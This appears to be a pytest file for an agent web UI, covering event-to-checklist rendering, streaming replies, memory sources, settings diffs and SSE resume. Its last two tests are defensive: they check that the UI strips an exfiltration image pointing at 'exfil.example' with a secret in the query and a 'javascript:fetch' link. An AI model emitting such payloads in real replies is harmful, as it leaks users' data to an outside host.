"""The web UI's pure parts: run events folded into a checklist, a reply and its sources, history
values, settings diffs, the Memory page's views, and the API client's event stream resuming with
Last-Event-ID (no Ray, no browser)."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import httpx
import pytest

from core.memory_schemas import DocumentInfo, DocumentView, LearningView, MemoryStats, UploadResult
from core.schemas import (
    ConversationSummary,
    ConversationView,
    Draft,
    MemorySource,
    Message,
    Plan,
    PlanStep,
    RunEvent,
)
from ui import memory_views as mv
from ui.client import ApiClient, ApiError
from ui.progress import RunProgress
from ui.render import (
    bubble,
    conversation_messages,
    drafts_html,
    learning_message,
    normalise_history,
    plan_html,
    sources_html,
)
from ui.views import changed_settings, since_for


def ev(seq: int, kind: str, **fields: Any) -> RunEvent:
    return RunEvent(kind=kind, run_id="r1", seq=seq, at=100.0 + seq, **fields)  # type: ignore[arg-type]


PLAN = Plan(goal="follow up with <leads>", steps=[
    PlanStep(id="s1", agent="leads", instruction="find the leads"),
    PlanStep(id="s2", agent="email", instruction="write to them", depends_on=["s1"]),
])


def test_events_fold_into_a_live_checklist_and_a_streaming_reply() -> None:
    p = RunProgress("r1")
    p.apply(ev(1, "status", status="planning"))
    p.apply(ev(2, "token", phase="plan", text='{"goal": '))
    assert bubble(p) == "◐ Planning (9 characters so far)…"
    for e in [ev(3, "plan", plan=PLAN), ev(4, "status", status="running"),
              ev(5, "task", status="running", step_id="s1", agent="leads", attempt=1),
              ev(6, "task", status="done", step_id="s1", agent="leads", attempt=1, text="3 leads <found>"),
              ev(7, "task", status="failed", step_id="s2", agent="email", attempt=1, error="smtp down"),
              ev(5, "task", status="running", step_id="s1", agent="leads", attempt=1)]:  # a replay: ignored
        p.apply(e)
    assert bubble(p) == "◐ Working: 1 of 2 steps done."
    html = plan_html(p, now=120.0)
    assert html.count('class="step"') == 2 and 'data-state="live"' in html
    assert 'data-step="s1" data-status="done"' in html and "✔" in html and "1.0 s · attempt 1" in html
    assert "3 leads &lt;found&gt;" in html and "&lt;leads&gt;" in html  # text is escaped
    assert 'data-step="s2" data-status="failed"' in html and "retrying" in html and "smtp down" in html

    p.apply(ev(8, "task", status="running", step_id="s2", agent="email", attempt=2))
    p.apply(ev(9, "task", status="done", step_id="s2", agent="email", attempt=2, text="sent 3 drafts"))
    p.apply(ev(10, "status", status="summarizing"))
    p.apply(ev(11, "token", phase="summary", text="All three"))
    assert bubble(p) == "All three ▍"
    p.apply(ev(12, "summary", text="All three leads have drafts."))
    p.apply(ev(13, "end", status="done"))
    assert not p.active and p.last_seq == 13 and p.counts() == (2, 2)
    assert bubble(p) == "All three leads have drafts."
    html = plan_html(p, now=999.0)
    assert 'data-state="ended"' in html and "attempt 2" in html and html.count('data-status="done"') == 2


def test_each_step_says_which_node_ran_it_once_a_run_spreads_over_machines() -> None:
    p = RunProgress("r1")
    for e in [ev(1, "plan", plan=PLAN), ev(2, "task", status="running", step_id="s1", agent="leads", attempt=1,
                                           node="3f2a1b9c")]:
        p.apply(e)
    html = plan_html(p, now=120.0)
    assert 'data-node="3f2a1b9c"' in html and "node 3f2a1b9c" not in html  # one machine: not said
    p.apply(ev(3, "task", status="running", step_id="s2", agent="email", attempt=1, node="9b1c0d2e"))
    html = plan_html(p, now=120.0)
    assert "node 3f2a1b9c" in html and "node 9b1c0d2e" in html


def test_a_failed_run_says_why_and_an_empty_plan_says_what_comes() -> None:
    p = RunProgress("r1")
    p.apply(ev(1, "status", status="planning"))
    p.apply(ev(2, "end", status="failed", error="plan invalid: unknown agent type 'emial'"))
    assert bubble(p).startswith("✖ The run failed: plan invalid")
    assert "No plan: plan invalid" in plan_html(p)
    assert "plan appears here" in plan_html(None)


def test_chat_history_from_gradio_parts_and_drafts_marked_not_sent() -> None:
    value = [{"role": "user", "content": [{"type": "text", "text": "hi "}, {"type": "text", "text": "there"}]},
             {"role": "assistant", "content": "hello", "metadata": None}, {"role": "system", "content": "x"}]
    assert normalise_history(value) == [{"role": "user", "content": "hi there"},
                                        {"role": "assistant", "content": "hello"}]
    html = drafts_html([Draft(id="d1", task_id="r1:s2", channel="email", target="ann@example.com",
                              subject="Webinar", body="Hi <Ann>", created_at=1.0)])
    assert "draft · not sent" in html and "nothing was sent" in html and "Hi &lt;Ann&gt;" in html
    assert drafts_html([]) == ""


def test_settings_diff_sends_only_what_changed() -> None:
    saved = {"max_turns": 6, "llm_model": "m", "stream_replies": True, "run_deadline_s": 3600.0, "llm_worker_model": None}
    form = {"max_turns": 7.0, "llm_model": " m ", "stream_replies": False, "run_deadline_s": 3600, "llm_worker_model": ""}
    assert changed_settings(form, saved) == {"max_turns": 7, "stream_replies": False}
    assert since_for("Any time", 1000.0) is None and since_for("Today", 100_000.0) == 100_000.0 - 86_400


def sse_body(*events: RunEvent) -> bytes:
    return "".join(f"id: {e.seq}\nevent: {e.kind}\ndata: {e.model_dump_json(exclude_none=True)}\n\n"
                   for e in events).encode() + b": keep-alive\n\n"


def test_a_dropped_event_stream_resumes_after_the_last_event_seen() -> None:
    seen: list[str | None] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request.headers.get("last-event-id"))
        if len(seen) == 1:  # the connection drops after two events, before ``end``
            return httpx.Response(200, content=sse_body(ev(1, "status", status="planning"), ev(2, "plan", plan=PLAN)))
        return httpx.Response(200, content=sse_body(ev(3, "end", status="done")))

    async def follow() -> list[int]:
        client = ApiClient("http://api.test", transport=httpx.MockTransport(handler), retry_delay_s=0.0)
        try:
            return [e.seq async for e in client.run_events("r1")]
        finally:
            await client.aclose()

    assert asyncio.run(follow()) == [1, 2, 3]
    assert seen == ["0", "2"]


def test_api_errors_carry_the_detail_naming_the_field() -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        assert json.loads(request.content) == {"max_turns": 500}
        assert request.headers["authorization"] == "Bearer s3cret"  # the UI logs in to a token-guarded API
        return httpx.Response(422, json={"detail": "max_turns: Input should be less than or equal to 100"})

    async def patch() -> None:
        client = ApiClient("http://api.test", "s3cret", transport=httpx.MockTransport(handler))
        try:
            await client.update_settings({"max_turns": 500})
        finally:
            await client.aclose()

    with pytest.raises(ApiError) as caught:
        asyncio.run(patch())
    assert caught.value.status == 422 and caught.value.detail.startswith("max_turns:")


def test_following_a_run_coalesces_updates_and_ends_with_the_whole_outputs() -> None:
    events = [ev(1, "status", status="planning"), *(ev(i, "token", phase="plan", text="x") for i in range(2, 40)),
              ev(40, "plan", plan=PLAN), ev(41, "task", status="done", step_id="s1", agent="leads", text="ex"),
              ev(42, "task", status="done", step_id="s2", agent="email", text="ex"),
              ev(43, "summary", text="Done: two steps."), ev(44, "end", status="done")]
    task = {"id": "r1:s1", "run_id": "r1", "step_id": "s1", "agent": "leads", "instruction": "find the leads",
            "status": "done", "attempts": 1, "result": "the whole output", "idempotency_key": "k",
            "created_at": 1.0, "updated_at": 2.0, "started_at": 1.0, "finished_at": 2.0}
    run = {"id": "r1", "conversation_id": "c1", "user_id": "u", "message": "m", "status": "done",
           "created_at": 1.0, "updated_at": 2.0}

    def handler(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("/events"):
            return httpx.Response(200, content=sse_body(*events))
        if request.url.path.endswith("/drafts"):
            return httpx.Response(200, json=[])
        return httpx.Response(200, json={"kind": "run_view", "run": run, "tasks": [task]})

    async def follow() -> list[tuple[list[dict[str, str]], str, str, str]]:
        from ui.chat import ChatHandlers

        client = ApiClient("http://api.test", transport=httpx.MockTransport(handler))
        history = [{"role": "user", "content": "m"}, {"role": "assistant", "content": ""}]
        try:
            return [(list(map(dict, h)), plan, drafts, sources)
                    async for h, plan, drafts, sources in ChatHandlers(client).follow("r1", history, reply=True)]
        finally:
            await client.aclose()

    frames = asyncio.run(follow())
    assert 2 <= len(frames) < len(events)  # a burst of tokens is not one browser update each
    history, plan, _, sources = frames[-1]
    assert history[-1]["content"] == "Done: two steps."
    assert plan.count('data-status="done"') == 2 and "the whole output" in plan
    assert "No memories were used" in sources


def src(collection: str, score: float, source_id: str = "doc1", heading: str = "Refunds > Eligibility",
        snippet: str = "Refunds within <30> days") -> MemorySource:
    return MemorySource(collection=collection, source_id=source_id, title="Refund SOP", heading=heading,  # type: ignore[arg-type]
                        snippet=snippet, score=score, link=f"/api/documents/{source_id}")


def test_memory_events_become_sources_under_the_answer_best_first_without_repeats() -> None:
    p = RunProgress("r1")
    assert sources_html(p.sources) == "" and "No memories were used" in sources_html(p.sources, ended=True)
    p.apply(ev(1, "memory", sources=[src("sops", 0.41), src("learnings", 0.55, "r0", "", "a past plan")]))
    p.apply(ev(2, "memory", sources=[src("sops", 0.62)]))  # a step got the same piece, scoring higher
    assert [(s.collection, s.score) for s in p.sources] == [("sops", 0.62), ("learnings", 0.55)]
    html = sources_html(p.sources)
    assert "2 memories given to the model" in html and html.count('class="source"') == 2
    assert 'href="/?doc=doc1"' in html  # a document opens in the Memory page's viewer
    assert 'href="/api/documents/doc1"' in html and 'href="/api/documents/r0"' in html
    assert "› Refunds &gt; Eligibility" in html and "&lt;30&gt;" in html and "0.62" in html
    assert html.index('data-collection="sops"') < html.index('data-collection="learnings"')
    assert "1 memory given" in sources_html(p.sources[:1])


def doc(status: str = "indexing", **fields: Any) -> DocumentInfo:
    base: dict[str, Any] = {"id": "d1", "title": "Refunds <SOP>", "filename": "refunds.md", "kind": "sop",
                            "tags": ["billing", "refunds"], "status": status, "chunks": 40, "chunks_done": 12,
                            "bytes": 5_300, "created_at": 1_700_000_000.0}
    return DocumentInfo.model_validate(base | fields)


def test_the_memory_page_shows_indexing_progress_then_the_outcome() -> None:
    indexing = mv.upload_html(doc())
    assert 'data-status="indexing"' in indexing and "12 of 40 pieces" in indexing
    assert '<progress max="40" value="12">' in indexing and "refunds.md" in indexing
    ready = mv.upload_html(doc("ready", chunks_done=40))
    assert 'data-status="ready"' in ready and "40 pieces" in ready and "Refunds &lt;SOP&gt;" in ready
    failed = mv.upload_html(doc("failed", error="no text found (a scanned PDF?)"))
    assert 'data-status="failed"' in failed and "no text found" in failed
    refused = mv.upload_html(None, "notes.xls: unsupported file type; supported: .txt, .md")
    assert 'data-status="refused"' in refused and "notes.xls: unsupported" in refused
    assert mv.upload_html(None) == ""
    dup = mv.accepted_html(UploadResult(document=doc("ready"), duplicate=True))
    assert 'data-status="duplicate"' in dup and "already in memory" in dup and "nothing was added" in dup


def test_the_document_list_viewer_search_and_stats_render_the_api_models() -> None:
    rows = mv.document_rows([doc(), doc("ready", title="Onboarding", kind="doc", tags=[], bytes=2_500_000)])
    assert rows[0][:5] == ["Refunds <SOP>", "SOP", "billing, refunds", "◐ indexing", "12 of 40 pieces"]
    assert rows[1][1:6] == ["document", "", "✔ ready", "40 pieces", "2.4 MB"]
    assert "1 still indexing" in mv.documents_note([doc()]) and "add one" in mv.documents_note([])
    view = mv.document_html(DocumentView(document=doc("ready"), content="# Refunds\n<b>within 30 days</b>"))
    assert 'data-document="d1"' in view and "&lt;b&gt;within 30 days" in view and "tags: billing, refunds" in view
    assert "Select a document" in mv.document_html(None) and "✖ gone" in mv.document_html(None, "gone")
    found = mv.search_html("refund window", [src("sops", 0.7)])
    assert "1 match(es)" in found and "refund window" in found and 'data-collection="sops"' in found
    assert "Nothing in memory matches" in mv.search_html("zebra", []) and mv.search_html("", []) == ""
    assert "✖ q: too long" in mv.search_html("x", [], "q: too long")
    stats = mv.stats_html(MemoryStats(embedder="minilm-int8", vector_store="/data/qdrant",
                                      collections={"documents": 3, "sops": 1, "conversations": 0, "learnings": 2}))
    assert '<b>3</b> documents' in stats and "minilm-int8" in stats and "/data/qdrant" in stats
    assert "did not answer: down" in mv.stats_html(None, "down")


def test_the_server_answer_to_feedback_reads_as_one_line() -> None:
    view = LearningView(run_id="r1", request="m", plan=PLAN, outcome="done", rating="down", correction=PLAN,
                        comment="use the sops agent", usable=True, created_at=1.0, updated_at=2.0)
    assert learning_message(view) == ("✔ Saved: rated bad · plan corrected · comment kept; "
                                      "used as an example for future plans.")
    plain = view.model_copy(update={"rating": None, "correction": None, "comment": None, "usable": False})
    assert learning_message(plain) == "✔ Saved: not rated · plan as made; not used as an example for future plans."


def test_the_chat_shows_no_remote_image_of_a_stored_or_streaming_reply() -> None:
    exfil = "![](https://exfil.example/p.png?d=secret) <IMG src=https://exfil.example/q.png>"
    view = ConversationView(
        conversation=ConversationSummary(id="c1", title="t", created_at=1.0, updated_at=2.0),
        messages=[Message(id="m1", role="user", content="hi", created_at=1.0),
                  Message(id="m2", role="assistant", content=f"Done. {exfil} [run](/api/runs/r1)", created_at=2.0)])
    shown = conversation_messages(view)  # text stored before the server cleaned model text
    assert shown[1]["content"] == "Done.   [run](/api/runs/r1)" and "exfil" not in json.dumps(shown)
    p = RunProgress("r1")
    p.apply(ev(1, "token", phase="summary", text=f"All three {exfil}"))
    assert "exfil" not in bubble(p) and bubble(p).startswith("All three")
    p.apply(ev(2, "summary", text=f"All three leads. {exfil}"))
    assert "exfil" not in bubble(p)


def test_a_source_link_never_leads_off_the_app() -> None:
    hostile = MemorySource(collection="conversations", source_id="x", title="t", snippet="s", score=0.5,
                           link="javascript:fetch('//exfil.example')")
    html = sources_html([hostile])
    assert "javascript" not in html and 'href="#"' in html
